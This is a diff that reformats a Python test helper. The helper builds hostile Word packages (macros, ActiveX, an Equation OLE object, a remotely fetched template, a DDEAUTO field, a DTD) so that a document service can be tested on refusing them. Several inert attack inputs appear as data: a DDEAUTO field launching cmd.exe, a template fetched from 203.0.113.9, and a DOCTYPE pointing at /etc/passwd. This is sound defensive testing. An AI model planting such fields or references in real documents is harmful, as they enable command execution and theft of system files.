@@ -1,5 +1,6 @@
 """Word documents carrying hostile content — a DTD, an XInclude, macros, ActiveX, OLE objects, DDE fields,
 a template fetched from another machine — built from the service's own template as Word would store them."""
+
 from __future__ import annotations
 
 from tests.custom_templates.files import DOCUMENT, built, members, with_parts
@@ -19,8 +20,11 @@ def with_relationship(package: bytes, rels: str, kind: str, target: str, externa
     """The package with one more relationship in `rels` (made if missing)."""
     mode = ' TargetMode="External"' if external else ""
     relationship = f'<Relationship Id="rIdHostile" Type="{kind}" Target="{target}"{mode}/>'
-    source = members(package).get(rels, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
-                                        b'relationships"></Relationships>').decode("utf-8")
+    source = (
+        members(package)
+        .get(rels, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+        .decode("utf-8")
+    )
     return with_parts(package, {rels: source.replace("</Relationships>", relationship + "</Relationships>")})
 
 
@@ -32,43 +36,58 @@ def with_types(package: bytes, *declarations: str) -> bytes:
 def docm() -> bytes:
     """A macro-enabled document (.docm) as Word saves it: a VBA project, its data, the macro main type."""
     package = with_relationship(built(), "word/_rels/document.xml.rels", MS_REL + "vbaProject", "vbaProject.bin")
-    package = with_parts(package, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
-                                   "word/vbaData.xml": '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/'
-                                                       'office/word/2006/wordml"/>',
-                                   "word/_rels/vbaProject.bin.rels": (
-                                       '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
-                                       f'relationships"><Relationship Id="rId1" Type="{MS_REL}wordVbaData" '
-                                       'Target="vbaData.xml"/></Relationships>')})
-    package = with_types(package, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
-                         '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>')
-    return with_parts(package, {"[Content_Types].xml": _text(package, "[Content_Types].xml").replace(DOCX_TYPE,
-                                                                                                       DOCM_TYPE)})
+    package = with_parts(
+        package,
+        {
+            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
+            "word/vbaData.xml": '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
+            "word/_rels/vbaProject.bin.rels": (
+                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                f'relationships"><Relationship Id="rId1" Type="{MS_REL}wordVbaData" '
+                'Target="vbaData.xml"/></Relationships>'
+            ),
+        },
+    )
+    package = with_types(
+        package,
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+        '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
+    )
+    return with_parts(package, {"[Content_Types].xml": _text(package, "[Content_Types].xml").replace(DOCX_TYPE, DOCM_TYPE)})
 
 
 def activex() -> bytes:
     package = with_relationship(built(), "word/_rels/document.xml.rels", REL + "control", "activeX/activeX1.xml")
-    package = with_parts(package, {"word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/'
-                                                                'office/2006/activeX" ax:classid="{x}"/>'})
-    return with_types(package, '<Override PartName="/word/activeX/activeX1.xml" '
-                               'ContentType="application/vnd.ms-office.activeX+xml"/>')
+    package = with_parts(
+        package,
+        {
+            "word/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/'
+            'office/2006/activeX" ax:classid="{x}"/>'
+        },
+    )
+    return with_types(
+        package, '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
+    )
 
 
 def ole_object() -> bytes:
     """An Equation 3.0 object, the kind old Vietnamese documents hold and old exploits used."""
     package = with_relationship(built(), "word/_rels/document.xml.rels", REL + "oleObject", "embeddings/oleObject1.bin")
     package = with_parts(package, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 60})
-    return with_types(package, '<Default Extension="bin" '
-                               'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>')
+    return with_types(
+        package, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
+    )
 
 
 def remote_template(target: str = "http://203.0.113.9/t.dotm") -> bytes:
     """A document attached to a template Word fetches from another machine when the file is opened."""
-    package = with_relationship(built(), "word/_rels/settings.xml.rels", REL + "attachedTemplate", target,
-                                external=True)
+    package = with_relationship(built(), "word/_rels/settings.xml.rels", REL + "attachedTemplate", target, external=True)
     settings = _text(package, "word/settings.xml")
     closing = settings.rindex("</w:settings>")
-    attached = ('<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
-                'r:id="rIdHostile"/>')
+    attached = (
+        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+        'r:id="rIdHostile"/>'
+    )
     return with_parts(package, {"word/settings.xml": settings[:closing] + attached + settings[closing:]})
 
 
@@ -80,9 +99,11 @@ def in_body(xml: str) -> bytes:
 
 def dde_field() -> bytes:
     """A DDEAUTO field whose instruction Word split over two runs."""
-    return in_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
-                   '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
-                   '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    return in_body(
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>'
+        '<w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
 
 
 def xinclude() -> bytes:
@@ -91,9 +112,11 @@ def xinclude() -> bytes:
 
 def dtd_in_core_properties() -> bytes:
     core = _text(built(), "docProps/core.xml")
-    body = core[core.index("?>") + 2:] if core.startswith("<?xml") else core
-    return with_parts(built(), {"docProps/core.xml": '<?xml version="1.0"?><!DOCTYPE cp:coreProperties SYSTEM '
-                                                     f'"file:///etc/passwd">{body}'})
+    body = core[core.index("?>") + 2 :] if core.startswith("<?xml") else core
+    return with_parts(
+        built(),
+        {"docProps/core.xml": f'<?xml version="1.0"?><!DOCTYPE cp:coreProperties SYSTEM "file:///etc/passwd">{body}'},
+    )
 
 
 # What every door refuses (422, naming the part): builder, code, part named.
